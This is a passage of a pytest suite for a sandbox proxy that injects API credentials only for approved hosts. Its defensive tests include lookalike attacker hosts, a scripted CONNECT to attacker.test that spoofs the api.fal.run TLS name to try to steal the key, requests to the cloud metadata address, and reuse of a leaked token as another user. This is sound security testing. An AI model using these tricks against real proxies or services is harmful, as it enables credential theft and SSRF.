    credential injected (the proxy as the unit; full `vsh run`s below)."""
    refs = _many_creds(world)

    def one(i: int) -> tuple[int, str]:
        with _register(world, refs[i]) as chan:
            r = _curl(world, chan, f"https://api.fal.run/who/{i}")
            if r.returncode != 0 or _status(r) != 200:  # say what the proxy decided, not just "49 != 50"
                trail = [e for e in _audit(world) if e.get("path") == f"/who/{i}" or e.get("run") == chan.run_id]
                raise AssertionError(f"request {i}: curl rc={r.returncode} out={r.stdout!r} "
                                     f"err={r.stderr!r} proxy audit={trail}")
            return i, r.stdout

    with ThreadPoolExecutor(max_workers=50) as pool:
        results = list(pool.map(one, range(50)))
    by_path = {s["path"]: next(v for k, v in s["headers"] if k.lower() == "authorization") for s in seen}
    assert len(by_path) == 50
    for i, out in results:
        assert by_path[f"/who/{i}"] == f"K{i} value-{i}-{'z' * 20}"
        assert "value-" not in out


# -- other local users -----------------------------------------------------------------------------

def _tcp_listeners(pid: int) -> set[int]:
    """The TCP ports process `pid` listens on (its socket inodes in /proc/net/tcp{,6}, state LISTEN)."""
    inodes = set()
    for fd in Path(f"/proc/{pid}/fd").iterdir():
        with contextlib.suppress(OSError):
            target = os.readlink(fd)
            if target.startswith("socket:["):
                inodes.add(target[8:-1])
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A" and fields[9] in inodes:
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return ports


@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="needs /proc")
def test_only_the_front_listens_on_tcp(world: World) -> None:
    """mitmproxy's own listener (an unannounced port every local user could reach) is not opened:
    the front hands connections to it in-process."""
    from vshell.proxy import client

    info = client.ensure_daemon(world.environment())
    assert _tcp_listeners(info.pid) == {info.port}


AS_NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
needs_other_uid = pytest.mark.skipif(
    not (sys.platform.startswith("linux") and hasattr(os, "geteuid") and os.geteuid() == 0 and shutil.which("setpriv")),
    reason="needs Linux, root and setpriv to run a client as another user")


@needs_other_uid
@pytest.mark.parametrize("url", ["https://api.fal.run/other-uid", "http://api.fal.run/other-uid"])
def test_another_local_user_cannot_use_a_valid_token(world: World, seen: list[Any], url: str) -> None:
    """A token that leaked (argv, a log) is worthless to another uid: the TCP front closes its
    connections before reading anything."""
    from vshell.proxy import client

    info = client.ensure_daemon(world.environment())
    with _register(world, "fal/api_key") as chan:
        cmd = ["curl", "-sS", "-k", "--max-time", "10", "--proxy", f"http://vsh:{chan.token}@127.0.0.1:{info.port}",
               "-w", "\n%{http_code}", url]
        other = subprocess.run([*AS_NOBODY, *cmd], capture_output=True, text=True, timeout=60,
                               env={"PATH": os.environ["PATH"]})
        assert _status(other) in (0, 407), other.stdout + other.stderr
        assert seen == []
        entries = _audit(world, lambda e: e.get("event") == "connection_refused" and "65534" in e.get("reason", ""))
        assert any(e.get("event") == "connection_refused" and "65534" in e.get("reason", "") for e in entries)
        assert not [e for e in entries if e.get("run") == chan.run_id and e.get("decision") == "injected"]
        ours = subprocess.run(cmd, capture_output=True, text=True, timeout=60, env={"PATH": os.environ["PATH"]})
    assert _status(ours) == 200, ours.stdout + ours.stderr  # the token itself was good
    assert len(seen) == 1  # only our own request arrived


PROC_NET_TCP = """\
  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
   0: 0100007F:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 101 1 0 100 0 0 10 0
   1: 0100007F:D431 0100007F:1F90 01 00000000:00000000 00:00000000 00000000 65534        0 102 1 0 20 4 30 10 -1
   2: 0100007F:1F90 0100007F:D431 01 00000000:00000000 00:00000000 00000000     0        0 103 1 0 20 4 30 10 -1
"""


@pytest.mark.skipif(sys.byteorder != "little", reason="the sample table is a little-endian host's")
def test_proc_net_tcp_uid_reads_the_peer_socket_entry() -> None:
    from vshell.proxy.daemon import proc_net_tcp_address, proc_net_tcp_uid

    assert proc_net_tcp_address("127.0.0.1", 8080) == "0100007F:1F90"
    assert proc_net_tcp_address("::1", 443) == "00000000000000000000000001000000:01BB"
    # Our accepted socket is 127.0.0.1:8080 <- 127.0.0.1:54321; the peer's entry is the reverse.
    assert proc_net_tcp_uid(PROC_NET_TCP, ("127.0.0.1", 54321), ("127.0.0.1", 8080)) == 65534
    assert proc_net_tcp_uid(PROC_NET_TCP, ("127.0.0.1", 8080), ("127.0.0.1", 54321)) == 0
    assert proc_net_tcp_uid(PROC_NET_TCP, ("127.0.0.1", 1), ("127.0.0.1", 8080)) is None


@needs_other_uid
def test_peer_uid_lookup_names_the_connecting_user() -> None:
    from vshell.proxy.daemon import PeerUids

    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(4)
        port = server.getsockname()[1]
        code = f"import socket,time; s=socket.create_connection(('127.0.0.1',{port})); time.sleep(3)"
        proc = subprocess.Popen([*AS_NOBODY, sys.executable, "-c", code])
        try:
            theirs, _ = server.accept()
            with socket.create_connection(("127.0.0.1", port)) as _mine:
                ours, _ = server.accept()
            peers = PeerUids()
            assert peers.of_peer(theirs) == 65534
            assert peers.of_peer(ours) == os.geteuid()
            assert peers._proc(theirs.getpeername(), theirs.getsockname()) == 65534
            peers.close()
            theirs.close()
            ours.close()
        finally:
            proc.kill()
            proc.wait()


def test_fast_tunnels_survive_the_garbage_collector(world: World, seen: list[Any]) -> None:
    """The front tunnels a no-credential CONNECT itself, on the transport asyncio's StreamWriter
    was made for; when the collector freed that writer (a reference cycle) its __del__ closed the
    transport: about one tunnel in seven died mid-request under load."""
    from vshell.proxy import client

    info = client.ensure_daemon(world.environment())
    ctx = ssl.create_default_context(cafile=str(world.ca_file))

    def one(token: str, i: int) -> bytes:
        s = _connect_tunnel(info.port, token, "attacker.test:443")
        out = b""
        with ctx.wrap_socket(s, server_hostname="attacker.test") as t:
            t.settimeout(20)
            t.sendall(f"GET /gc/{i} HTTP/1.1\r\nHost: attacker.test\r\nConnection: close\r\n\r\n".encode())
            with contextlib.suppress(OSError):
                while chunk := t.recv(65536):
                    out += chunk
        return out

    with _register(world) as chan, ThreadPoolExecutor(max_workers=50) as pool:
        outs = list(pool.map(lambda i: one(chan.token, i), range(200)))
    failed = [i for i, out in enumerate(outs) if not out.startswith(b"HTTP/1.1 200")]
    assert failed == [], f"{len(failed)} of 200 tunnelled requests failed, e.g. {outs[failed[0]][:100]!r}"


def test_daemon_killed_mid_run_fails_closed_and_next_run_works(world: World, seen: list[Any]) -> None:
    from vshell.proxy import client

    env = world.environment()
    chan = _register(world, "fal/api_key")
    info = client.ensure_daemon(env)
    os.kill(info.pid, signal.SIGKILL)
    deadline = time.time() + 5
    while time.time() < deadline and client.pid_alive(info.pid):
        time.sleep(0.05)
    r = _curl_raw(info.port, chan.token, "https://api.fal.run/x", info.ca_bundle)
    assert r.returncode != 0 or _status(r) != 200
    chan.close()
    assert seen == []
    with _register(world, "fal/api_key") as chan2:
        r = _curl(world, chan2, "https://api.fal.run/x")
    assert _status(r) == 200
    assert world.seen_auth() == [f"Key {SECRET}"]


def _curl_raw(port: int, token: str, url: str, ca: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["curl", "-sS", "--max-time", "5", "--proxy", f"http://vsh:{token}@127.0.0.1:{port}",
                           "--cacert", str(ca), "-w", "\n%{http_code}", url],
                          capture_output=True, text=True, timeout=30)


def test_racing_starts_give_one_daemon(world: World) -> None:
    from vshell.proxy import client

    env = world.environment()
    client.stop(env)
    with ThreadPoolExecutor(max_workers=4) as pool:
        infos = list(pool.map(lambda _: client.ensure_daemon(world.environment()), range(4)))
    assert len({i.pid for i in infos}) == 1


def _locked(path: Path) -> bool:
    import fcntl

    try:
        fd = os.open(path, os.O_RDWR)
    except FileNotFoundError:
        return False
    try:
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
    except BlockingIOError:
        return True
    finally:
        os.close(fd)
    return False


def test_start_waits_for_a_daemon_an_interrupted_starter_left_starting(world: World) -> None:
    """A starter killed (Ctrl-C) while its daemon imports mitmproxy leaves that daemon starting and
    the start lock free. The next start launches a second daemon, which exits at once (the first
    holds the daemon lock): the starter must wait for the first one, not report a failed start."""
    from vshell.proxy import client

    env = world.environment()
    client.stop(env)
    orphan = subprocess.Popen([sys.executable, "-m", "vshell.proxy.daemon"], env=world.env,
                              stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                              start_new_session=True)
    try:
        lock = Path(world.env["VSH_HOME"]) / "proxy" / "daemon.lock"
        deadline = time.monotonic() + 10
        while not _locked(lock):  # the orphan holds the daemon lock ...
            assert time.monotonic() < deadline, "the orphan daemon never took its lock"
            time.sleep(0.005)
        assert client.status(env) is None  # ... and does not answer yet (mitmproxy is loading)
        info = client.ensure_daemon(world.environment())
        assert info.pid == orphan.pid
    finally:
        if orphan.poll() is None and client.status(env) is None:
            orphan.kill()


# -- the sandbox: real `vsh run` ---------------------------------------------------------------------

def _have_runner() -> bool:
    root = Path(__file__).resolve().parents[1] / "vshell"
    return (root / "runner.py").exists() and (root / "cli_run.py").exists()


needs_run = pytest.mark.skipif(not (BWRAP and _have_runner()), reason="vsh run (runner + bwrap) not available")


def _vsh_run(world: World, *args: str, timeout: float = 90) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "vshell", "run", *args], capture_output=True, text=True,
                          env=world.env, timeout=timeout)


def _inside_curl(*args: str) -> list[str]:
    return ["curl", "-sS", "--max-time", "20", "-w", "\n%{http_code}", *args]


@needs_run
def test_proxy_cases_file_exists() -> None:
    assert PROXY_CASES.exists()


@needs_run
def test_pub_c01_sandbox_injection(world: World, seen: list[Any]) -> None:
    r = _vsh_run(world, "--cred", "fal/api_key", "--", *_inside_curl("https://api.fal.run/x"))
    assert r.returncode == 0, r.stderr
    assert world.seen_auth() == [f"Key {SECRET}"]
    assert SECRET not in r.stdout + r.stderr
    env_dump = _vsh_run(world, "--cred", "fal/api_key", "--", "env")
    assert SECRET not in env_dump.stdout


@needs_run
def test_pub_c02_no_cred(world: World, seen: list[Any]) -> None:
    # No credential: tunnelled, the upstream's own certificate reaches curl (-k: not in the bundle).
    r = _vsh_run(world, "--", *_inside_curl("-k", "https://api.fal.run/x"))
    assert r.stdout.rstrip().endswith("200"), r.stdout + r.stderr
    assert world.seen_auth() == [None]
    assert SECRET not in r.stdout


@needs_run
@pytest.mark.parametrize("url", ["https://evilfal.run/", "https://fal.run.attacker.test/"])
def test_pub_c03_lookalikes(world: World, seen: list[Any], url: str) -> None:
    r = _vsh_run(world, "--cred", "fal/api_key", "--", *_inside_curl("-k", url))
    assert r.stdout.rstrip().endswith("200"), r.stdout + r.stderr
    assert world.seen_auth() == [None]
    assert SECRET not in r.stdout


@needs_run
@pytest.mark.parametrize("url", ["https://fal.run/", "https://API.FAL.RUN./"])
def test_pub_c04_bare_case_dot(world: World, seen: list[Any], url: str) -> None:
    r = _vsh_run(world, "--cred", "fal/api_key", "--", *_inside_curl(url))
    assert r.returncode == 0, r.stderr
    assert world.seen_auth() == [f"Key {SECRET}"]
    assert SECRET not in r.stdout


@needs_run
@pytest.mark.parametrize("path", ["/r302", "/r307"])
def test_pub_c05_redirects(world: World, seen: list[Any], path: str) -> None:
    r = _vsh_run(world, "--cred", "fal/api_key", "--", *_inside_curl("-k", "-L", f"https://api.fal.run{path}"))
    assert r.stdout.rstrip().endswith("200"), r.stdout + r.stderr
    assert [s["path"] for s in seen] == [path, "/landing"]
    assert world.seen_auth() == [f"Key {SECRET}", None]
    assert SECRET not in r.stdout


@needs_run
def test_pub_c06_connect_host_mismatch(world: World, seen: list[Any]) -> None:
    script = (
        "import base64,os,socket,ssl,urllib.parse as u\n"
        "p=u.urlsplit(os.environ['HTTPS_PROXY'])\n"
        "s=socket.create_connection((p.hostname,p.port))\n"
        "a=base64.b64encode(f'{p.username}:{p.password}'.encode()).decode()\n"
        "s.sendall(f'CONNECT attacker.test:443 HTTP/1.1\\r\\nHost: attacker.test:443\\r\\nProxy-Authorization: Basic {a}\\r\\n\\r\\n'.encode())\n"
        "print(s.recv(4096).split(b'\\r\\n')[0])\n"
        "c=ssl.create_default_context(); c.check_hostname=False\n"
        "try:\n"
        " t=c.wrap_socket(s,server_hostname='api.fal.run')\n"
        " t.sendall(b'GET /x HTTP/1.1\\r\\nHost: api.fal.run\\r\\nConnection: close\\r\\n\\r\\n')\n"
        " print(t.recv(65536).decode(errors='replace'))\n"
        "except Exception as e: print('ERROR', e)\n"
    )
    r = _vsh_run(world, "--cred", "fal/api_key", "--", "python3", "-c", script)
    assert SECRET not in r.stdout
    assert seen == []
    assert " 200 " not in r.stdout.split("\n", 2)[1] if r.stdout.count("\n") > 1 else True


@needs_run
def test_pub_c07_ambiguous(world: World, seen: list[Any]) -> None:
    r = _vsh_run(world, "--cred", "fal/api_key", "--cred", "fal2/api_key", "--",
                 *_inside_curl("https://api.fal.run/x"))
    assert r.stdout.rstrip().endswith("403"), r.stdout + r.stderr
    assert "fal/api_key" in r.stdout and "fal2/api_key" in r.stdout
    assert seen == []


@needs_run
def test_pub_c08_unknown_ref(world: World, seen: list[Any]) -> None:
    r = _vsh_run(world, "--cred", "fal/nope", "--", "touch", "should-not-exist")
    assert r.returncode == 125
    assert "fal/nope" in r.stderr


@needs_run
def test_pub_c09_reflected_redacted(world: World, seen: list[Any]) -> None:
    r = _vsh_run(world, "--cred", "fal/api_key", "--", *_inside_curl("-i", "https://api.fal.run/reflect-header"))
    assert world.seen_auth() == [f"Key {SECRET}"]
    assert SECRET not in r.stdout
    assert "[REDACTED]" in r.stdout


@needs_run
@pytest.mark.parametrize("url", ["http://169.254.169.254/", "http://127.0.0.1:{port}/"])
def test_pub_c11_private_addresses(world: World, seen: list[Any], url: str) -> None:
    target = url.format(port=world.upstream.port)
    # Through the proxy explicitly (NO_PROXY would send 127.0.0.1 to the sandbox's own loopback),
    # and the default way (environment): both refused, nothing reaches the upstream.
    explicit = _vsh_run(world, "--cred", "fal/api_key", "--", "sh", "-c",
                        f"curl -sS --max-time 10 -w '\\n%{{http_code}}' --proxy \"$HTTP_PROXY\" --noproxy '' {target}")
    default = _vsh_run(world, "--cred", "fal/api_key", "--", *_inside_curl(target))
    assert seen == []
    assert explicit.stdout.rstrip().endswith("403"), explicit.stdout + explicit.stderr
    assert not default.stdout.rstrip().endswith("200")


@needs_run
def test_pub_c12_cleartext(world: World, seen: list[Any]) -> None:
    r = _vsh_run(world, "--cred", "fal/api_key", "--", *_inside_curl("http://api.fal.run/"))
    assert r.stdout.rstrip().endswith("200"), r.stdout + r.stderr
    assert world.seen_auth() == [None]
    assert seen[0]["tls"] is False


@needs_run
def test_run_token_is_in_no_command_line(world: World, seen: list[Any], tmp_path: Path) -> None:
    """The sandbox's environment carries the run's token; no process's argv (readable by every
    local user in /proc/*/cmdline) may, bubblewrap's included."""
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / "go").unlink(missing_ok=True)
    proc = subprocess.Popen(
        [sys.executable, "-m", "vshell", "run", "--workspace", str(workspace), "--cred", "fal/api_key", "--", "sh", "-c",
         'echo "$HTTPS_PROXY" > proxy.tmp && mv proxy.tmp proxy.txt; i=0; while [ ! -e go ] && [ $i -lt 300 ]; do '
         'sleep 0.1; i=$((i+1)); done'],
        env=world.env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 60
        while not (workspace / "proxy.txt").exists():
            assert proc.poll() is None, proc.communicate()
            assert time.monotonic() < deadline, "the run never wrote its proxy URL"
            time.sleep(0.05)
        url = (workspace / "proxy.txt").read_text().strip()
        token = url.split("://", 1)[1].split("@", 1)[0].split(":", 1)[1]
        assert len(token) >= 32, url
        holders = []
        for pid in filter(str.isdigit, os.listdir("/proc")):
            with contextlib.suppress(OSError):
                if token.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                    holders.append((pid, Path(f"/proc/{pid}/cmdline").read_bytes()[:200]))
        assert holders == []
    finally:
        (workspace / "go").touch()
        out, err = proc.communicate(timeout=60)
    assert proc.returncode == 0, out + err


@needs_run
def test_sandbox_env_has_no_secret_and_debug_trace(world: World, seen: list[Any]) -> None:
    r = _vsh_run(world, "--debug", "--cred", "fal/api_key", "--", *_inside_curl("https://api.fal.run/x"))
    assert "injected" in r.stderr
    assert SECRET not in r.stderr + r.stdout


@needs_run
@pytest.mark.slow
def test_fifty_concurrent_vsh_runs_never_cross(world: World, seen: list[Any]) -> None:
    refs = _many_creds(world)

    def one(i: int) -> subprocess.CompletedProcess[str]:
        return _vsh_run(world, "--cred", refs[i], "--", *_inside_curl(f"https://api.fal.run/run/{i}"), timeout=240)

    with ThreadPoolExecutor(max_workers=50) as pool:
        results = list(pool.map(one, range(50)))
    for r in results:
        assert r.returncode == 0, r.stderr
        assert "value-" not in r.stdout
    by_path = {s["path"]: next(v for k, v in s["headers"] if k.lower() == "authorization") for s in seen}
    assert by_path == {f"/run/{i}": f"K{i} value-{i}-{'z' * 20}" for i in range(50)}


@needs_run
def test_daemon_killed_mid_sandbox_run_fails_closed(world: World, seen: list[Any]) -> None:
    from vshell.proxy import client

    info = client.ensure_daemon(world.environment())
    # The command waits until the daemon is killed, then tries to reach the credential host.
    flag = world.home.parent / "killed.flag"
    flag.unlink(missing_ok=True)
    proc = subprocess.Popen(
        [sys.executable, "-m", "vshell", "run", "--cred", "fal/api_key", "--", "sh", "-c",
         "sleep 2; curl -sS --max-time 5 -w '\\n%{http_code}' https://api.fal.run/x; echo rc=$?"],
        env=world.env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    time.sleep(1.0)
    os.kill(info.pid, signal.SIGKILL)
    out, err = proc.communicate(timeout=60)
    assert "rc=0" not in out or not out.split("rc=")[0].rstrip().endswith("200"), out + err
    assert seen == []
    r = _vsh_run(world, "--cred", "fal/api_key", "--", *_inside_curl("https://api.fal.run/x"))
    assert r.returncode == 0 and r.stdout.rstrip().endswith("200"), r.stdout + r.stderr
    assert world.seen_auth() == [f"Key {SECRET}"]


# -- the forwarder (stdlib-only, runs inside the sandbox) ----------------------------------------------

FORWARDER = Path(__file__).resolve().parents[1] / "proxy" / "forwarder.py"


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def test_forwarder_relays_and_returns_status(tmp_path: Path) -> None:
    sock_path = tmp_path / "echo.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(sock_path))
    server.listen(8)

    def echo() -> None:
        while True:
            try:
                c, _ = server.accept()
            except OSError:
                return
            with c:
                while data := c.recv(65536):
                    c.sendall(data.upper())

    threading.Thread(target=echo, daemon=True).start()
    port = _free_port()
    client_code = (f"import socket; s=socket.create_connection(('127.0.0.1',{port})); s.sendall(b'x'*200000);"
                   "s.shutdown(socket.SHUT_WR); n=0\n"
                   "while (d:=s.recv(65536)): n+=len(d); assert set(d)=={88}\n"
                   "print(n); raise SystemExit(7)")
    r = subprocess.run(["python3", "-I", str(FORWARDER), "--listen", str(port), "--unix", str(sock_path), "--",
                        sys.executable, "-c", client_code], capture_output=True, text=True, timeout=30)
    server.close()
    assert r.returncode == 7, r.stderr
    assert r.stdout.strip() == "200000"


def test_forwarder_signals_and_missing_socket(tmp_path: Path) -> None:
    port = _free_port()
    base = ["python3", "-I", str(FORWARDER), "--listen", str(port), "--unix", str(tmp_path / "gone.sock"), "--"]
    p = subprocess.Popen([*base, "sleep", "30"])
    time.sleep(0.5)
    p.send_signal(signal.SIGTERM)
    assert p.wait(timeout=10) == 128 + signal.SIGTERM
    # The daemon is gone: connections are closed at once, nothing goes anywhere else.
    code = (f"import socket; s=socket.create_connection(('127.0.0.1',{port})); s.sendall(b'CONNECT x:443 HTTP/1.1\\r\\n\\r\\n');"
            "\ntry: print(repr(s.recv(100)))\nexcept ConnectionResetError: print('reset')")
    r = subprocess.run([*base, sys.executable, "-c", code], capture_output=True, text=True, timeout=30)
    assert r.returncode == 0 and r.stdout.strip() in ("b''", "reset"), r.stdout + r.stderr
    assert subprocess.run([*base[:-1]], capture_output=True).returncode == 125
